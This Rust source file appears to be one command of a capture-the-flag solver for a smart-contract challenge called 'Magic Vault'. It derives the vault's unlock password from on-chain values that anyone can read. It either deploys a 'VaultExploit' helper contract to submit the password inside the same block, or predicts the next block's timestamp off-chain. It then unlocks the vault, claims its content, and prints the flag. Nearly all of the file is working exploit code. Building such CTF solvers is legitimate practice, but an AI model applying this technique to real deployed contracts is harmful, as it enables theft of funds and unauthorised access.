// SPDX-License-Identifier: MIT
//! Magic Vault: the password is derived from values every node can read, so
//! it can be replayed either inside the same block (helper contract) or
//! off-chain for a predicted block.

use std::time::{SystemTime, UNIX_EPOCH};

use alloy_primitives::{Address, FixedBytes, U256};
use anyhow::{Context, Result};
use clap::{Args, ValueEnum};
use tracing::{info, warn};

use chain_types::constants::{
    CALL_GAS_LIMIT, DEPLOY_GAS_LIMIT, EXPLOIT_GAS_LIMIT, VAULT_PASSPHRASE_SLOT,
};
use host_utils::abi::{calldata, view, IVault, IVaultExploit};
use host_utils::observables::ObservableReader;
use host_utils::rpc::BlockRef;
use replicator::vault::{magic_password, unlock_password, VaultObservables};
use replicator::ReplicateError;

use crate::commands::{print_json, Session};
use crate::config::ConnectionArgs;
use crate::progress;

const VAULT_EXPLOIT_SOURCE: &str = include_str!("../../../../contracts/VaultExploit.sol");

#[derive(Copy, Clone, Debug, Default, PartialEq, Eq, ValueEnum)]
pub enum Strategy {
    /// Deploy a helper that derives the password in the unlocking block.
    #[default]
    Contract,
    /// Derive the password off-chain for the next block and unlock directly.
    Direct,
}

impl Strategy {
    fn as_str(self) -> &'static str {
        match self {
            Strategy::Contract => "contract",
            Strategy::Direct => "direct",
        }
    }
}

#[derive(Args, Debug)]
pub struct VaultArgs {
    #[command(flatten)]
    pub connection: ConnectionArgs,

    /// How to deliver the password.
    #[arg(long, value_enum, default_value_t = Strategy::Contract)]
    pub strategy: Strategy,

    /// Predict the password for the next block and print it. Sends nothing.
    #[arg(long)]
    pub dry_run: bool,
}

/// Password derived for a specific block.
#[derive(Debug, Clone)]
struct Derived {
    block: u64,
    timestamp: u64,
    observables: VaultObservables,
    password: [u8; 16],
}

/// Earliest timestamp the next block can carry.
pub fn predict_timestamp(parent: u64, now: u64) -> u64 {
    now.max(parent + 1)
}

fn unix_now() -> Result<u64> {
    Ok(SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .context("system clock is before 1970")?
        .as_secs())
}

async fn derive_for(
    reader: &ObservableReader<'_>,
    vault: Address,
    owner: Address,
    block: u64,
    timestamp: u64,
) -> Result<Derived> {
    let observables = reader.vault(vault, block, timestamp).await?;
    let magic = magic_password(&observables)?;
    Ok(Derived {
        block,
        timestamp,
        observables,
        password: unlock_password(owner, magic),
    })
}

/// Derive the password for the block after the current head.
async fn predict_next(session: &Session, vault: Address, owner: Address) -> Result<Derived> {
    let client = session.client();
    let reader = ObservableReader::at_head(client).await?;
    let head = client.get_block(BlockRef::Number(reader.head())).await?;
    let timestamp = predict_timestamp(head.timestamp, unix_now()?);
    derive_for(&reader, vault, owner, head.number + 1, timestamp).await
}

/// Derive the password the vault saw in an already mined block.
async fn replay_mined(
    session: &Session,
    vault: Address,
    owner: Address,
    block: u64,
) -> Result<Derived> {
    let client = session.client();
    let mined = client.get_block(BlockRef::Number(block)).await?;
    let reader = ObservableReader::at(client, block.saturating_sub(1));
    derive_for(&reader, vault, owner, mined.number, mined.timestamp).await
}

async fn run_contract(session: &Session, vault: Address) -> Result<Option<Derived>> {
    let client = session.client();
    let passphrase = client
        .get_storage_at(vault, U256::from(VAULT_PASSPHRASE_SLOT), BlockRef::Latest)
        .await
        .context("failed to read passphrase")?;
    info!(%passphrase, "Read passphrase");

    let compiled = session.compile(VAULT_EXPLOIT_SOURCE, "VaultExploit")?;
    let (exploit, _) = session
        .deploy("VaultExploit", compiled.bytecode.clone(), DEPLOY_GAS_LIMIT)
        .await?;

    let receipt = session
        .transact(
            "Exploit",
            exploit,
            calldata(&IVaultExploit::exploitCall { vault, passphrase }),
            EXPLOIT_GAS_LIMIT,
        )
        .await?;

    let owner = view(client, None, vault, &IVault::ownerCall {}).await?;
    match replay_mined(session, vault, owner, receipt.block_number).await {
        Ok(derived) => {
            info!(
                block = derived.block,
                password = %hex::encode(derived.password),
                "Replicated the password the vault accepted"
            );
            Ok(Some(derived))
        }
        Err(e) => {
            warn!(error = %e, "Could not replay the mined block off-chain");
            Ok(None)
        }
    }
}

async fn run_direct(session: &Session, vault: Address, owner: Address) -> Result<Derived> {
    let client = session.client();
    let derived = predict_next(session, vault, owner).await?;
    info!(
        block = derived.block,
        timestamp = derived.timestamp,
        password = %hex::encode(derived.password),
        "Predicted password"
    );

    let sp = progress::spinner("Unlocking vault...", session.json);
    let sent = session
        .wallet
        .send_call(
            vault,
            calldata(&IVault::unlockCall {
                password: FixedBytes::from(derived.password),
            }),
            CALL_GAS_LIMIT,
        )
        .await;
    let receipt = progress::fail_on_err(&sp, sent, "Unlock failed")?;

    if !receipt.success {
        progress::fail(&sp, "Unlock rejected");
        let mined = client
            .get_block(BlockRef::Number(receipt.block_number))
            .await?;
        warn!(
            predicted_block = derived.block,
            mined_block = mined.number,
            predicted_timestamp = derived.timestamp,
            mined_timestamp = mined.timestamp,
            "Password was derived for a different block"
        );
        return Err(anyhow::Error::new(ReplicateError::StaleObservable {
            block: derived.block,
            head: mined.number,
        })
        .context("vault rejected the replicated password"));
    }
    progress::finish(&sp, &format!("Unlocked in block {}", receipt.block_number));

    session
        .transact(
            "Claim content",
            vault,
            calldata(&IVault::claimContentCall {}),
            CALL_GAS_LIMIT,
        )
        .await?;
    Ok(derived)
}

fn summary(
    strategy: Option<Strategy>,
    vault: Address,
    derived: Option<&Derived>,
    flag: Option<&str>,
) -> serde_json::Value {
    serde_json::json!({
        "challenge": "vault",
        "strategy": strategy.map(Strategy::as_str),
        "vault": vault.to_string(),
        "block": derived.map(|d| d.block),
        "timestamp": derived.map(|d| d.timestamp),
        "nonce": derived.map(|d| d.observables.nonce.to_string()),
        "password": derived.map(|d| format!("0x{}", hex::encode(d.password))),
        "flag": flag,
    })
}

pub async fn run(args: VaultArgs, json_output: bool) -> Result<()> {
    let session = Session::connect(&args.connection, json_output).await?;
    let vault = session.config.target;
    let owner = view(session.client(), None, vault, &IVault::ownerCall {})
        .await
        .context("failed to read vault owner")?;
    info!(%vault, %owner, "Vault");

    if args.dry_run {
        let derived = predict_next(&session, vault, owner).await?;
        if json_output {
            return print_json(&summary(None, vault, Some(&derived), None));
        }
        println!("Predicted block:     {}", derived.block);
        println!("Predicted timestamp: {}", derived.timestamp);
        println!("Unlock password:     0x{}", hex::encode(derived.password));
        return Ok(());
    }

    let derived = match args.strategy {
        Strategy::Contract => run_contract(&session, vault).await?,
        Strategy::Direct => Some(run_direct(&session, vault, owner).await?),
    };
    let flag = session.try_flag().await;

    if json_output {
        return print_json(&summary(
            Some(args.strategy),
            vault,
            derived.as_ref(),
            flag.as_deref(),
        ));
    }
    if let Some(derived) = &derived {
        println!(
            "Password 0x{} (block {})",
            hex::encode(derived.password),
            derived.block
        );
    }
    match flag {
        Some(flag) => println!("\nFlag: {flag}"),
        None => println!("Done!"),
    }
    Ok(())
}
